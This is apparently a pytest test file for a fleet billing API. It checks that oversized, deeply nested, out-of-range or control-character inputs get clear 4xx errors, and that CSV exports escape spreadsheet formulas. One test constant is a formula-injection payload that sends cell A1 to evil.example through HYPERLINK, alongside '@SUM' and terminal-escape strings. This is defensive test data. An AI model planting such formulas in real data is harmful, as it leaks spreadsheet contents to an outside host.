"""Hostile requests: bodies too large or too deeply nested, numbers and dates out of range,
text that no one should store. Each answers a 4xx in the error format, naming what is
wrong, never a 5xx."""

import csv
import io
import json

import pytest
from sqlalchemy import select

from billing.auth import SYSTEM
from billing.devices.models import Customer, FleetMembership
from billing.pricing import assignments
from billing.pricing.services import create_plan
from billing.web import MAX_JSON_DEPTH
from tests.conftest import NOW, auth, customer_payload
from tests.integration.invoicing import issued_invoice
from tests.rides import at, meter, ride

LIMIT = 1024 * 1024  # the default http_max_request_bytes


def error_of(response, status: int) -> dict:
    """The `error` object of a response, once its status and format are checked."""
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert set(response.json) == {"error"}
    error = response.json["error"]
    assert set(error) == {"code", "message", "details"}
    return error


# --- request size ------------------------------------------------------------------------


class UnreadableBody(io.RawIOBase):
    """A request body that fails the test if anything reads it."""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        raise AssertionError("the body was read")


def test_a_body_over_the_limit_is_refused_before_the_key_is_checked(client):
    response = client.post(
        "/api/v1/customers", data=b"{" + b" " * LIMIT + b"}", content_type="application/json"
    )

    error = error_of(response, 413)
    assert error["code"] == "request_entity_too_large"
    assert f"the limit is {LIMIT}" in error["message"]


def test_a_declared_length_over_the_limit_is_refused_without_reading_the_body(client, keys):
    response = client.post(
        "/api/v1/customers",
        headers=auth(keys["admin"]),
        content_type="application/json",
        environ_overrides={"wsgi.input": UnreadableBody(), "CONTENT_LENGTH": str(20 * 2**20)},
    )

    assert "20971520 bytes" in error_of(response, 413)["message"]


def test_a_chunked_body_is_cut_when_it_passes_the_limit(client, keys):
    response = client.post(
        "/api/v1/customers",
        headers={**auth(keys["admin"]), "Transfer-Encoding": "chunked"},  # no length
        content_type="application/json",
        environ_overrides={
            "wsgi.input": io.BytesIO(b"[" + b"0," * LIMIT + b"0]"),
            "wsgi.input_terminated": True,
        },
    )

    assert error_of(response, 413)["code"] == "request_entity_too_large"


def test_the_key_is_checked_before_the_body_is_parsed(client):
    response = client.post("/api/v1/customers", data=b"{not json", content_type="application/json")

    assert error_of(response, 401)["code"] == "unauthenticated"


# --- JSON bodies -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "[" * 10_000 + "]" * 10_000,
        '{"name": ' + "[" * 10_000 + "]" * 10_000 + "}",
        '{"address": ' + '{"a": ' * (MAX_JSON_DEPTH) + "1" + "}" * (MAX_JSON_DEPTH + 1),
    ],
    ids=["array", "in a field", "one level too deep"],
)
@pytest.mark.parametrize("path", ["/api/v1/customers", "/api/v1/plans"])
def test_a_body_nested_too_deeply_is_refused_with_a_clear_error(client, keys, body, path):
    response = client.post(
        path, data=body, headers=auth(keys["admin"]), content_type="application/json"
    )

    error = error_of(response, 400)
    assert error["message"] == f"the body is nested deeper than {MAX_JSON_DEPTH} levels"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b'{"name": "\xff"}', "not UTF-8 (byte 10)"),
        (b'{"name": NaN}', "NaN is not a JSON number"),
        (b'{"name": ' + b"9" * 5000 + b"}", "not valid JSON"),
        (b'{"name": "x"', "not valid JSON"),
    ],
    ids=["not utf-8", "NaN", "huge integer", "truncated"],
)
def test_a_body_that_is_not_json_is_refused_with_a_clear_error(client, keys, body, message):
    response = client.post(
        "/api/v1/customers", data=body, headers=auth(keys["admin"]), content_type="application/json"
    )

    assert message in error_of(response, 400)["message"]


@pytest.mark.parametrize(
    ("body", "path"),
    [
        ({"name": "\ud800"}, "name"),
        ({"address": {"city": "Amiens\udfff"}}, "address.city"),
        ({"email": "\x00@lp.example"}, "email"),
    ],
    ids=["lone surrogate", "nested lone surrogate", "NUL in an id"],
)
def test_strings_no_text_column_can_hold_are_refused_at_their_path(client, keys, body, path):
    payload = {**customer_payload(), **body}
    response = client.post("/api/v1/customers", json=payload, headers=auth(keys["admin"]))

    assert path in error_of(response, 422)["details"]


def test_nul_in_a_path_or_a_query_is_refused(client, keys):
    assert error_of(client.get("/api/v1/customers/a%00b", headers=auth(keys["admin"])), 404)
    response = client.get("/api/v1/vehicles?fleet_id=%00", headers=auth(keys["admin"]))
    assert "query.fleet_id" in error_of(response, 422)["details"]


# --- numbers and dates out of range (each was a 500) -------------------------------------

LISTS = [
    "/api/v1/customers",
    "/api/v1/fleets",
    "/api/v1/vehicles",
    "/api/v1/plans",
    "/api/v1/invoices",
    "/api/v1/rejected-messages",
    "/api/v1/anomalies",
    "/api/v1/components",
    "/api/v1/components/due",
    "/api/v1/webhook-endpoints",
    "/api/v1/webhook-endpoints/{endpoint_id}/deliveries",
    "/api/v1/customers/{customer_id}/alert-history",
]


@pytest.mark.parametrize("path", LISTS)
def test_a_page_beyond_any_offset_is_refused_naming_page(client, keys, path):
    # the page is checked before the id
    path = path.replace("{endpoint_id}", "wh_unknown").replace("{customer_id}", "cus_unknown")
    response = client.get(f"{path}?page=922337203685477580", headers=auth(keys["admin"]))

    assert "query.page" in error_of(response, 422)["details"]


def test_every_paginated_list_is_checked_above(client):
    paths = client.get("/api/v1/openapi.json").json["paths"]
    paginated = {
        path
        for path, operations in paths.items()
        if any(p["name"] == "page" for p in operations.get("get", {}).get("parameters", []))
    }
    assert paginated == set(LISTS)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/v1/rejected-messages/99999999999999999999999"),
        ("POST", "/api/v1/rejected-messages/99999999999999999999999/replay"),
        ("POST", "/api/v1/anomalies/18446744073709551616/accept"),
        ("POST", "/api/v1/anomalies/9223372036854775808/reject"),
    ],
)
def test_a_row_id_beyond_64_bits_is_not_found(client, keys, method, path):
    response = client.open(path, method=method, headers=auth(keys["admin"]))

    assert error_of(response, 404)["code"] == "not_found"


def test_an_empty_plan_code_is_refused_naming_it(client, keys, registry):
    response = client.post(
        f"/api/v1/vehicles/{registry.vehicle_id}/plan",
        json={"plan_code": ""},
        headers=auth(keys["admin"]),
    )

    details = error_of(response, 422)["details"]
    assert details["plan_code"] == ["lower-case letters, digits and '-', 1 to 40 characters"]


@pytest.mark.parametrize(
    "query",
    [
        "statement?period=0001-01",
        "statement?period=9999-12",
        "usage?period=0000-01",
        "usage?period=9999-12",
        "usage?period=1969-12",
    ],
)
def test_a_period_out_of_range_is_refused_naming_it(client, keys, registry, query):
    response = client.get(
        f"/api/v1/customers/{registry.customer_id}/{query}", headers=auth(keys["admin"])
    )

    details = error_of(response, 422)["details"]
    assert "periods run from 1970-01 to 9998-12" in details["query.period"][0]


@pytest.mark.parametrize("export", ["fec", "facturx.zip", "invoices.csv", "invoice-lines.csv"])
@pytest.mark.parametrize("period", ["9999-12", "0001-01"])
def test_an_export_of_a_period_out_of_range_is_refused_naming_it(client, keys, export, period):
    response = client.get(
        f"/api/v1/exports/{export}?period={period}", headers=auth(keys["finance"])
    )

    assert "query.period" in error_of(response, 422)["details"]


def test_the_last_period_accepted_exports_an_empty_fec(client, keys):
    response = client.get("/api/v1/exports/fec?period=9998-12", headers=auth(keys["finance"]))

    assert response.status_code == 200
    assert response.data.count(b"\r\n") == 1  # the header row alone


@pytest.mark.parametrize(
    ("body", "path"),
    [
        ({"usage": {"distance_km": "1e30"}}, "usage.distance_km.value"),
        ({"usage": {"distance_km": "1E+999999999"}}, "usage.distance_km.value"),
        ({"usage": {"trips": 1e308}}, "usage.trips.value"),
        ({"usage": {"energy_kwh": "1E-999999999"}}, "usage.energy_kwh.value"),
        ({"usage": {"distance_km": "Infinity"}}, "usage.distance_km.value"),
        ({"days": "1E+999999999"}, "days"),
        ({"version": 99999999999999999999}, "version"),
    ],
)
def test_a_preview_quantity_out_of_bounds_is_refused_naming_it(
    client, keys, example_plans, body, path
):
    response = client.post(
        "/api/v1/plans/urbain/preview", json=body, headers=auth(keys["customer"])
    )

    assert path in error_of(response, 422)["details"]


def test_a_preview_at_the_bounds_is_priced(client, keys, example_plans):
    response = client.post(
        "/api/v1/plans/urbain/preview",
        json={"usage": {"distance_km": "999999999999.999999", "trips": "0.000001"}},
        headers=auth(keys["customer"]),
    )

    assert response.status_code == 200, response.json
    assert response.json["lines"]


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("GET", "/api/v1/vehicles/{vehicle}/usage?from=0001-01-01T00:00:00%2B01:00", None,
         "query.from"),
        ("GET", "/api/v1/vehicles/{vehicle}/usage?to=9999-12-31T23:59:59-05:00", None,
         "query.to"),
        ("GET", "/api/v1/rejected-messages?received_from=0001-01-01T00:00:00%2B01:00", None,
         "query.received_from"),
        ("POST", "/api/v1/vehicles/{vehicle}/plan",
         {"plan_code": "urbain", "effective_at": "9999-12-31T23:59:59-01:00"}, "effective_at"),
        ("GET", "/api/v1/plans/urbain?version=99999999999999999999", None, "query.version"),
    ],
)  # fmt: skip
def test_an_instant_or_integer_out_of_range_is_refused_naming_it(
    client, keys, registry, example_plans, method, path, body, field
):
    response = client.open(
        path.format(vehicle=registry.vehicle_id),
        method=method,
        json=body,
        headers=auth(keys["admin"]),
    )

    assert field in error_of(response, 422)["details"]


def test_a_credit_note_amount_out_of_bounds_is_refused_naming_it(client, session, keys, registry):
    invoice = issued_invoice(session, registry.customer_id, "F-2026-000001")
    response = client.post(
        f"/api/v1/invoices/{invoice.id}/credit-notes",
        json={"reason": "geste", "amount": "1E+999999999", "lines": [{"position": 2**70}]},
        headers=auth(keys["finance"]),
    )

    details = error_of(response, 422)["details"]
    assert {"amount", "lines.0.position"} <= set(details)


# --- text --------------------------------------------------------------------------------


def test_text_is_stored_in_nfc(client, session, keys):
    payload = customer_payload("Cafe\u0301 du Nord")  # e + combining acute accent
    payload["address"]["city"] = "Ame\u0301ville"
    response = client.post("/api/v1/customers", json=payload, headers=auth(keys["admin"]))

    assert response.status_code == 201, response.json
    stored = session.get(Customer, response.json["id"])
    assert (stored.name, stored.city) == ("Café du Nord", "Améville")


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", "Livraisons\x00", "holds NUL U+0000 at position 10"),
        ("name", "Livraisons\x07 Picardes", "control character U+0007"),
        ("name", "Livraisons\u202eSAS", "bidirectional control U+202E"),
        ("name", "\u2066Livraisons", "bidirectional control U+2066"),
        ("name", "Livraisons\nPicardes", "control character U+000A"),
        ("name", "\x85", "control character U+0085"),
        ("name", "   ", "must not be blank"),
        ("name", "", "must not be blank"),
        ("address.city", "Amiens\x1b[2J", "control character U+001B"),
        ("address.line1", "\t", "control character U+0009"),
        ("address.country", "ZZ", "'ZZ' is not an ISO 3166-1 alpha-2 country code"),
        ("address.country", "fr", "not an ISO 3166-1 alpha-2 country code"),
    ],
)
def test_a_customer_with_unsafe_text_is_refused_naming_the_field(
    client, keys, field, value, message
):
    payload = customer_payload()
    if field.startswith("address."):
        payload["address"][field.removeprefix("address.")] = value
    else:
        payload[field] = value
    response = client.post("/api/v1/customers", json=payload, headers=auth(keys["admin"]))

    assert message in error_of(response, 422)["details"][field][0]


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("POST", "/api/v1/fleets", {"customer_id": "{customer}", "name": " "}, "name"),
        ("PATCH", "/api/v1/fleets/{fleet}", {"name": "A\u202dB"}, "name"),
        ("PATCH", "/api/v1/vehicles/{vehicle}", {"model": "s1\x00"}, "model"),
        ("PATCH", "/api/v1/vehicles/{vehicle}", {"notes": "ok\u2067"}, "notes"),
        ("PATCH", "/api/v1/customers/{customer}", {"name": "\t"}, "name"),
    ],
)
def test_other_names_follow_the_same_text_rule(client, keys, registry, method, path, body, field):
    ids = {"customer": registry.customer_id, "fleet": registry.fleet_id}
    body = {key: value.format(**ids) for key, value in body.items()}
    ids["vehicle"] = registry.vehicle_id
    response = client.open(
        path.format(**ids), method=method, json=body, headers=auth(keys["admin"])
    )

    assert field in error_of(response, 422)["details"]


def test_notes_may_run_over_several_lines(client, keys, registry):
    response = client.patch(
        f"/api/v1/vehicles/{registry.vehicle_id}",
        json={"notes": "Pneu changé\r\n\tà 4 000 km"},
        headers=auth(keys["admin"]),
    )

    assert response.status_code == 200, response.json
    assert response.json["notes"] == "Pneu changé\r\n\tà 4 000 km"


# --- CSV exports -------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"prix")'


def test_a_statement_csv_writes_formulas_as_text(client, session, keys, registry):
    create_plan(
        session,
        {
            "code": "piege", "name": "+Piège", "currency": "EUR", "vat_rate": "20",
            "charges": [
                {"metric": "vehicle_days", "model": "flat", "amount": "19.00", "name": FORMULA},
                {"metric": "trips", "model": "per_unit", "unit_amount": "0.10",
                 "name": "@SUM(A1:A9)"},
                {"metric": "distance_km", "model": "per_unit", "unit_amount": "0.05",
                 "name": "-1+1"},
            ],
        },
        NOW,
    )  # fmt: skip
    for membership in session.scalars(select(FleetMembership)):
        membership.started_at = at("2026-09-01T00:00:00+02:00")
    session.commit()
    assignments.assign_plan(
        session, SYSTEM, registry.vehicle_id, "piege", at("2026-10-01T00:00:00Z")
    )
    ride(session, registry.vehicle_id, "2026-10-03T07:00:00+02:00", km=10, trips=2, kwh=1)
    meter(session)

    response = client.get(
        f"/api/v1/customers/{registry.customer_id}/statement?period=2026-10&format=csv",
        headers=auth(keys["finance"]),
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    names = [row["charge_name"] for row in rows if row["row"] == "line"]
    assert names == ["'" + FORMULA, "'@SUM(A1:A9)", "'-1+1"]
    amounts = [row["amount"] for row in rows if row["row"] == "line"]
    assert all(not amount.startswith("'") for amount in amounts)


def test_the_invoice_csv_exports_write_formulas_as_text(client, session, keys, registry):
    customer = session.get(Customer, registry.customer_id)
    customer.name = FORMULA
    session.commit()
    issued_invoice(session, registry.customer_id, "F-2026-000001")

    response = client.get(
        "/api/v1/exports/invoices.csv?period=2026-12", headers=auth(keys["finance"])
    )

    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["buyer_name"] == "'" + FORMULA
    assert row["total_gross"] == "22.80"


def test_a_json_body_round_trips_the_formula_untouched(client, keys):
    payload = customer_payload(FORMULA)
    response = client.post("/api/v1/customers", json=payload, headers=auth(keys["admin"]))

    assert response.status_code == 201
    assert json.loads(response.data)["name"] == FORMULA  # only CSV cells are escaped


def test_a_telemetry_body_nested_too_deeply_is_kept_as_a_rejected_message(client, keys, registry):
    # The generic JSON guard leaves telemetry to its own decoder: the body is kept.
    body = '{"msg_id": "deep-1", "ts": "2026-11-15T09:00:00Z", "x": ' + "[" * 10_000
    response = client.post(
        f"/api/v1/vehicles/{registry.vehicle_id}/telemetry",
        data=body + "]" * 10_000 + "}",
        headers=auth(keys["operator"]),
        content_type="application/json",
    )

    assert response.status_code == 422, response.json
    listed = client.get("/api/v1/rejected-messages", headers=auth(keys["operator"])).json
    assert listed["total"] == 1
    assert listed["items"][0]["vehicle_id"] == registry.vehicle_id
